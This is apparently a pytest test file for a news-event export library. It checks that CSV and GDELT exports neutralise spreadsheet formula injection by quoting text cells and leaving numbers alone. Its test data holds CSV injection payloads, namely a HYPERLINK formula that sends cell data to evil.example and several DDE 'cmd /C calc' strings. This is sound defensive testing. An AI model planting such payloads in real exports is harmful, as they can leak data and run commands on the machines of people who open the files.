"""CSV injection (OWASP): text cells a spreadsheet would run as formulas get a leading quote, in the CSV
downloads and the GDELT files; numbers keep their sign."""
import csv
import dataclasses

import pytest

from tests.storage.factories import document, event, save
from tidings.export import export, gdelt
from tidings.export.cells import FORMULA_STARTS, text_cell, text_cells
from tidings.models import ActorRef
from tidings.storage import Store

HOSTILE = {"=": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+": "+cmd|' /C calc'!A0",
           "-": "-2+3+cmd|' /C calc'!A0", "@": "@SUM(1+1)*cmd|' /C calc'!A0", "\t": "\t=1+1", "\r": "\r=1+1"}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_cell_starting_like_a_formula_is_quoted(start):
    assert text_cell(HOSTILE[start]) == "'" + HOSTILE[start]


@pytest.mark.parametrize("value", ["Kyiv", "", " =not first", "a=b", "'already", "1-2", "https://x.example/=y"])
def test_ordinary_text_is_left_alone(value):
    assert text_cell(value) == value


@pytest.mark.parametrize("value", [-5.0, -1, 0, 3.5, None, True])
def test_numbers_and_empty_cells_are_left_alone(value):
    assert text_cell(value) is value


def test_rows_quote_their_text_cells_only():
    row = text_cells({"title": "=1+1", "goldstein": -5.0, "source": "-Wire", "num_mentions": 2, "url": None})
    assert row == {"title": "'=1+1", "goldstein": -5.0, "source": "'-Wire", "num_mentions": 2, "url": None}


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    text = "Rebels attacked the town of Foo overnight, officials said on Thursday."
    rebels = ActorRef("=cmd|' /C calc'!A0", None, "=cmd|' /C calc'!A0", None, None, None)
    attack = dataclasses.replace(event("ASSAULT", "190", "russia", "ukraine"), actor=rebels, goldstein=-10.0)
    doc = document("=evil", text, source="@Courier", title="+Breaking", events=[event("ASSAULT", "190", "russia",
                                                                                      "ukraine")])
    doc.events = [attack]
    doc.article = dataclasses.replace(doc.article, url="-1+1")
    with Store.open(tmp_path_factory.mktemp("cells") / "cells.db") as store:
        save(store, doc)
        yield store


def test_gdelt_events_quote_text_cells_and_keep_negative_scores(hostile_store, tmp_path):
    out = tmp_path / "events.tsv"
    export(hostile_store, "gdelt-events", out)
    with out.open(encoding="utf-8", newline="") as f:
        lines = csv.reader(f, delimiter="\t", quoting=csv.QUOTE_NONE)
        rows = [dict(zip(gdelt.EVENT_COLUMNS, r, strict=True)) for r in lines]
    assert len(rows) == 1
    row = rows[0]
    assert row["Actor1Name"] == "'=CMD|' /C CALC'!A0"
    assert row["SOURCEURL"] == "'-1+1"
    assert row["GoldsteinScale"] == "-10.0" and float(row["GoldsteinScale"]) == -10.0


def test_gdelt_mentions_and_gkg_quote_text_cells(hostile_store, tmp_path):
    export(hostile_store, "gdelt-mentions", tmp_path / "mentions.tsv")
    mention = (tmp_path / "mentions.tsv").read_text(encoding="utf-8").rstrip("\n").split("\t")
    assert mention[gdelt.MENTION_COLUMNS.index("MentionSourceName")] == "'@Courier"
    assert mention[gdelt.MENTION_COLUMNS.index("MentionIdentifier")] == "'-1+1"
    export(hostile_store, "gdelt-gkg", tmp_path / "gkg.tsv")
    gkg = (tmp_path / "gkg.tsv").read_text(encoding="utf-8").rstrip("\n").split("\t")
    assert gkg[gdelt.GKG_COLUMNS.index("DocumentIdentifier")] == "'-1+1"
    assert gkg[gdelt.GKG_COLUMNS.index("V2Tone")].startswith("-1.5,")  # numeric: left as it is
    assert not any(cell.startswith(("=", "+", "@")) for cell in gkg)
